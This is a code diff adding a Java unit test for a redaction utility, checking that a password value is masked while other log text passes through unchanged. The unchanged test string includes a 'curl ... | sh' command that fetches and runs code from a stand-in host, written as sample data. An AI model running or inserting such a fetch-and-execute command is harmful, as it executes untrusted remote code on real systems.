@@ -255,6 +255,15 @@ class RedactionTest {
     }
 
     @Test
+    void whatIsShownIsMaskedAndOtherwiseAsItWas() {
+        assertThat(Masking.masked("jane ran app --password SECRET now"))
+                .isEqualTo("jane ran app --password [redacted] now");
+        String harmless =
+                "user ran /bin/sh -c curl http://x.example/a | sh; session ecs-execute-command-0c4f9d2ab7e1563f8";
+        assertThat(Masking.masked(harmless)).isEqualTo(harmless);
+    }
+
+    @Test
     void aShortKeyIsRefused() {
         assertThatThrownBy(() -> new Marks(new byte[15])).isInstanceOf(IllegalArgumentException.class);
     }
